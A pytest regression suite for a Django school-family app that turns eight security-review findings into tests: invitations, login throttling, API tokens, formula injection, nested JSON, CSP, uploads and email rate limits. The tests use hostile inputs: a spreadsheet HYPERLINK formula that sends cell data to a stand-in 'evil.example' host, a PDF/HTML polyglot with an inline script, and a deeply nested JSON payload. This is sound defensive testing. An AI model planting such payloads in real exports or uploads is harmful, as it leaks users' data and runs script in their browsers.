"""The eight problems a security review observed, each reproduced as a test (issue 12).

Each test was written first and failed on the code as it was; the fix followed.
"""

import datetime as dt
import io
import json

import openpyxl
import pytest
import time_machine
from django.core import mail
from django.test import Client
from django.urls import reverse

from backend.core.models import AuditEvent
from canteen.models import Booking
from family.models import ChildGuardian, Document, Guardian, GuardianInvitation
from tests.canteen.factories import make_assessment, make_tariff, make_year
from tests.factories import (
    PASSWORD,
    ParentFactory,
    SchoolFactory,
    StaffFactory,
    TechnicianFactory,
    household_with_parent,
)
from tests.fleet.factories import DeviceFactory, school_with_secret

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'


def token_for(client, email, password=PASSWORD):
    response = client.post(
        "/api/v1/auth/token/", {"email": email, "password": password}, format="json"
    )
    assert response.status_code == 200, response.content
    return response.json()["token"]


# --- 1. staff adding guardians --------------------------------------------------------------


@pytest.fixture
def family_of_two():
    school = SchoolFactory()
    household, parent, (child,) = household_with_parent(children=1, school=school)
    second = ParentFactory()
    guardian2 = Guardian.objects.create(household=household, user=second)
    ChildGuardian.objects.create(child=child, guardian=guardian2)
    staff = StaffFactory()
    staff.staff_schools.add(school)
    return household, parent, second, child, staff


def test_staff_cannot_invite_a_guardian_without_acting_for_the_family(api_client, family_of_two):
    household, _parent, _second, _child, staff = family_of_two
    api_client.force_authenticate(staff)
    # when: staff invites an adult of their choosing, not at the family's request
    response = api_client.post(
        f"/api/v1/household/{household.pk}/invitations/",
        {"email": "intruder@example.test"},
        format="json",
    )
    # then: refused, nothing written, nobody emailed
    assert response.status_code == 403
    assert "pour le compte" in response.json()["message"]
    assert not GuardianInvitation.objects.exists()
    assert mail.outbox == []


def test_staff_acting_for_the_family_invites_audited_and_every_guardian_is_told(
    api_client, family_of_two, django_capture_on_commit_callbacks
):
    household, parent, second, _child, staff = family_of_two
    api_client.force_authenticate(staff)
    with django_capture_on_commit_callbacks(execute=True):
        response = api_client.post(
            f"/api/v1/household/{household.pk}/invitations/",
            {"email": "Grand.Mere@Example.test", "acting_for_family": True},
            format="json",
        )
    assert response.status_code == 201
    invitation = GuardianInvitation.objects.get()
    assert invitation.email == "grand.mere@example.test"
    event = AuditEvent.objects.get(action="family.invitation.create")
    assert event.actor == staff
    assert event.actor_kind == "staff_for_family"
    assert event.household_id == household.pk
    # every guardian hears of it, with the way to revoke it
    told = {m.to[0] for m in mail.outbox if "grand.mere@example.test" in m.body}
    assert told == {parent.email, second.email}
    assert all(reverse("family:household") in m.body for m in mail.outbox if m.to[0] in told)
    # a guardian revokes it
    api_client.force_authenticate(second)
    revoke = api_client.post(f"/api/v1/household/invitations/{invitation.pk}/revoke/")
    assert revoke.status_code == 200
    invitation.refresh_from_db()
    assert invitation.state == GuardianInvitation.State.REVOKED


def test_every_guardian_is_told_of_a_new_member(
    api_client, family_of_two, django_capture_on_commit_callbacks
):
    from family.services import guardian_invite, invitation_accept

    household, parent, second, _child, _staff = family_of_two
    invitation = guardian_invite(actor=parent, household=household, email="tata@example.test")
    mail.outbox.clear()
    newcomer = ParentFactory(email="tata@example.test")
    with django_capture_on_commit_callbacks(execute=True):
        invitation_accept(invitation=invitation, user=newcomer)
    told = {m.to[0] for m in mail.outbox}
    assert told == {parent.email, second.email}


def test_another_parent_cannot_invite_into_a_foreign_household(api_client, family_of_two):
    household = family_of_two[0]
    api_client.force_authenticate(ParentFactory())
    response = api_client.post(
        f"/api/v1/household/{household.pk}/invitations/",
        {"email": "x@example.test", "acting_for_family": True},
        format="json",
    )
    assert response.status_code == 404
    assert not GuardianInvitation.objects.exists()


# --- 2. throttling bypassed by letter case ---------------------------------------------------


@pytest.mark.parametrize("target", ["login", "admin"])
def test_login_throttle_counts_every_letter_case_as_one_account(settings, target):
    settings.AXES_FAILURE_LIMIT = 3
    user = ParentFactory(email="camille@example.test")
    if target == "admin":
        user.is_staff = True
        user.is_superuser = True
        user.save()
    url = reverse("login") if target == "login" else reverse("admin:login")
    client = Client()
    for variant in ["Camille@example.test", "CAMILLE@example.test", "camille@EXAMPLE.test"]:
        client.post(url, {"username": variant, "password": "wrong"})
    # then: the right password in yet another case is refused: the account is locked
    response = client.post(url, {"username": "CaMiLlE@example.test", "password": PASSWORD})
    assert response.status_code == 429
    assert "_auth_user_id" not in client.session


def test_api_token_throttle_counts_every_letter_case_as_one_account(settings, api_client):
    settings.AXES_FAILURE_LIMIT = 3
    ParentFactory(email="camille@example.test")
    for variant in ["Camille@example.test", "CAMILLE@example.test", "camille@EXAMPLE.test"]:
        api_client.post(
            "/api/v1/auth/token/", {"email": variant, "password": "wrong"}, format="json"
        )
    response = api_client.post(
        "/api/v1/auth/token/",
        {"email": "CaMiLlE@example.test", "password": PASSWORD},
        format="json",
    )
    assert response.status_code == 429


# --- 3. API tokens ---------------------------------------------------------------------------


def test_api_tokens_are_hashed_at_rest_and_expire(api_client, settings):
    from backend.accounts.models import ApiToken

    ParentFactory(email="camille@example.test")
    token = token_for(api_client, "camille@example.test")
    stored = ApiToken.objects.get()
    assert token not in (stored.digest, stored.token_key)
    assert stored.expiry is not None
    api_client.credentials(HTTP_AUTHORIZATION=f"Token {token}")
    assert api_client.get("/api/v1/me/").status_code == 200
    with time_machine.travel(stored.expiry + dt.timedelta(minutes=1)):
        assert api_client.get("/api/v1/me/").status_code == 401


def test_an_api_request_reads_only_the_token_it_presents(api_client, django_assert_max_num_queries):
    """knox read every token of the person on every request to delete the expired ones: the
    presented token is checked alone; the others go at the next sign-in and every night."""
    from backend.accounts.models import ApiToken
    from backend.core.tasks import retention_task

    ParentFactory(email="camille@example.test")
    ParentFactory(email="other@example.test")
    first = token_for(api_client, "camille@example.test")
    second = token_for(api_client, "camille@example.test")
    token_for(api_client, "other@example.test")
    api_client.credentials(HTTP_AUTHORIZATION=f"Token {second}")
    api_client.get("/api/v1/me/")  # first use: records when (then at most every 5 minutes)
    with django_assert_max_num_queries(1):  # the token with its user, nothing else
        assert api_client.get("/api/v1/me/").status_code == 200
    expiry = ApiToken.objects.filter(user__email="camille@example.test").first().expiry
    with time_machine.travel(expiry + dt.timedelta(minutes=1)):
        api_client.credentials(HTTP_AUTHORIZATION=f"Token {first}")
        assert api_client.get("/api/v1/me/").status_code == 401
        assert ApiToken.objects.filter(user__email="camille@example.test").count() == 1
        api_client.credentials()
        token_for(api_client, "camille@example.test")  # signing in again drops the expired
        assert ApiToken.objects.filter(user__email="camille@example.test").count() == 1
        assert ApiToken.objects.filter(user__email="other@example.test").count() == 1
        retention_task()
        assert ApiToken.objects.filter(user__email="other@example.test").count() == 0
        assert ApiToken.objects.filter(user__email="camille@example.test").count() == 1


def test_api_tokens_are_revoked_by_a_password_reset(api_client):
    user = ParentFactory(email="camille@example.test")
    token = token_for(api_client, "camille@example.test")
    client = Client()
    client.post(reverse("password_reset"), {"email": "camille@example.test"})
    link = next(
        line for line in mail.outbox[-1].body.splitlines() if "/mot-de-passe/nouveau/" in line
    )
    path = link[link.index("/mot-de-passe/") :].strip()
    form = client.get(path, follow=True)
    client.post(
        form.redirect_chain[-1][0],
        {"new_password1": "An0ther long passphrase", "new_password2": "An0ther long passphrase"},
    )
    user.refresh_from_db()
    assert user.check_password("An0ther long passphrase")
    api_client.credentials(HTTP_AUTHORIZATION=f"Token {token}")
    assert api_client.get("/api/v1/me/").status_code == 401


def test_api_tokens_are_revoked_by_a_password_change_and_a_logout(api_client):
    user = ParentFactory(email="camille@example.test")
    token = token_for(api_client, "camille@example.test")
    client = Client()
    client.force_login(user)
    client.post(
        reverse("password_change"),
        {
            "old_password": PASSWORD,
            "new_password1": "An0ther long passphrase",
            "new_password2": "An0ther long passphrase",
        },
    )
    api_client.credentials(HTTP_AUTHORIZATION=f"Token {token}")
    assert api_client.get("/api/v1/me/").status_code == 401
    # logout (API): the token used is revoked
    api_client.credentials()
    token2 = token_for(api_client, "camille@example.test", "An0ther long passphrase")
    api_client.credentials(HTTP_AUTHORIZATION=f"Token {token2}")
    assert api_client.post("/api/v1/auth/logout/").status_code == 204
    assert api_client.get("/api/v1/me/").status_code == 401


# --- 4. formula injection ---------------------------------------------------------------------


NOW = dt.datetime(2026, 11, 2, 8, 0, tzinfo=dt.UTC)


def test_kitchen_pai_csv_and_xlsx_neutralise_formulas(client):
    with time_machine.travel(NOW, tick=False):
        make_year()
        make_tariff()
        school = SchoolFactory()
        household, _parent, (child,) = household_with_parent(children=1, school=school)
        child.first_name, child.last_name, child.allergies = FORMULA, "-2+3", ["peanuts"]
        child.save()
        make_assessment(household, bracket=3)
        Booking.objects.create(child=child, day=dt.date(2026, 11, 3))
        staff = StaffFactory()
        staff.staff_schools.add(school)
        client.force_login(staff)
        url = reverse("canteen:forecast")
        pai = client.get(url, {"debut": "2026-11-03", "format": "pai_csv"})
        xlsx = client.get(url, {"debut": "2026-11-03", "format": "xlsx"})
    text = pai.content.decode("utf-8-sig")
    assert FORMULA.split("(")[0] in text
    for line in text.splitlines()[1:]:
        for cell in line.split(";"):
            assert not cell.strip('"').startswith(("=", "+", "-", "@"))
    book = openpyxl.load_workbook(io.BytesIO(xlsx.content))
    cells = [c for row in book["PAI et allergies"].iter_rows() for c in row]
    assert any("HYPERLINK" in str(c.value) for c in cells)
    for cell in cells:
        assert cell.data_type != "f"
        assert not str(cell.value or "").startswith(("=", "+", "-", "@"))


def test_fleet_device_export_neutralises_formulas(client):
    school = school_with_secret()
    DeviceFactory(school=school, serial=FORMULA, hardware_model="@SUM(1+1)")
    client.force_login(TechnicianFactory())
    response = client.get(reverse("fleet:devices-csv"))
    text = response.content.decode("utf-8-sig")
    assert "HYPERLINK" in text
    assert "SUM" in text
    import csv

    for row in list(csv.reader(io.StringIO(text)))[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell


# --- 5. deeply nested JSON -------------------------------------------------------------------


@pytest.mark.parametrize("url", ["/api/v1/auth/token/", "/api/v1/household/"])
def test_deeply_nested_json_is_a_400_with_a_message(api_client, url):
    api_client.force_authenticate(ParentFactory())
    response = api_client.post(url, "[" * 100_000, content_type="application/json")
    assert response.status_code == 400
    assert "imbriqué" in response.json()["message"]


# --- 6. Content-Security-Policy --------------------------------------------------------------


@pytest.mark.parametrize("url", ["/", "/connexion/", "/mot-de-passe/oubli/", "/admin/login/"])
def test_every_page_has_a_strict_content_security_policy(client, url):
    response = client.get(url)
    policy = response["Content-Security-Policy"]
    assert "default-src 'self'" in policy
    assert "'unsafe-inline'" not in policy
    assert "stripe" not in policy
    assert "script-src 'self'" in policy
    assert "report-uri /csp-report/" in policy
    if not url.startswith("/admin/"):  # our pages load their script with the nonce
        assert "'nonce-" in policy


def test_csp_nonce_is_on_inline_scripts_and_changes_per_response(client):
    first = client.get("/connexion/")
    second = client.get("/connexion/")
    assert first["Content-Security-Policy"] != second["Content-Security-Policy"]


def test_csp_report_endpoint_logs_violations(client):
    """(Its own handler, not pytest's caplog: CI runs with ``-p no:logging``.)"""
    import logging

    records: list[logging.LogRecord] = []
    handler = logging.Handler(level=logging.WARNING)
    handler.emit = records.append
    logger = logging.getLogger("minot.csp")
    logger.addHandler(handler)
    try:
        report = {"csp-report": {"document-uri": "http://x/", "violated-directive": "script-src"}}
        response = client.post(
            reverse("csp-report"), json.dumps(report), content_type="application/csp-report"
        )
    finally:
        logger.removeHandler(handler)
    assert response.status_code == 204
    assert any("script-src" in r.getMessage() for r in records)


# --- 7. uploads named by their detected type ----------------------------------------------------


def test_uploads_are_stored_and_served_with_a_name_from_the_detected_type(api_client):
    from django.core.files.uploadedfile import SimpleUploadedFile

    household, parent, (_child,) = household_with_parent(children=1)
    api_client.force_authenticate(parent)
    polyglot = b"%PDF-1.4\n<html><script>alert(1)</script></html>"
    from family.services import document_upload

    document_upload(
        actor=parent,
        household=household,
        kind="other",
        uploaded_file=SimpleUploadedFile("evil.html", polyglot, content_type="text/html"),
    )
    document = Document.objects.get()
    assert document.file.name.endswith(".pdf")
    assert "evil" not in document.file.name
    assert "evil" not in document.original_name
    assert document.original_name.endswith(".pdf")
    download = api_client.get(reverse("family-api:document-download", args=[document.pk]))
    disposition = download["Content-Disposition"]
    assert disposition.startswith("attachment")
    assert ".pdf" in disposition
    assert "evil" not in disposition
    assert ".html" not in disposition
    assert download["Content-Type"] == "application/pdf"


# --- 8. password reset and invitation emails rate-limited ----------------------------------------


def test_password_reset_is_rate_limited_per_address(client, settings):
    settings.MINOT_EMAIL_RATE_LIMIT = 3
    ParentFactory(email="camille@example.test")
    for variant in ["camille@example.test", "Camille@example.test"] * 5:
        response = client.post(reverse("password_reset"), {"email": variant})
        assert response.status_code in (302, 429)
    assert len(mail.outbox) == 3


def test_invitation_emails_are_rate_limited_per_account(api_client, settings):
    settings.MINOT_EMAIL_RATE_LIMIT = 3
    household, parent, _kids = household_with_parent(children=1)
    api_client.force_authenticate(parent)
    statuses = [
        api_client.post(
            f"/api/v1/household/{household.pk}/invitations/",
            {"email": f"person{i}@example.test"},
            format="json",
        ).status_code
        for i in range(6)
    ]
    assert statuses == [201, 201, 201, 429, 429, 429]
    assert GuardianInvitation.objects.count() == 3
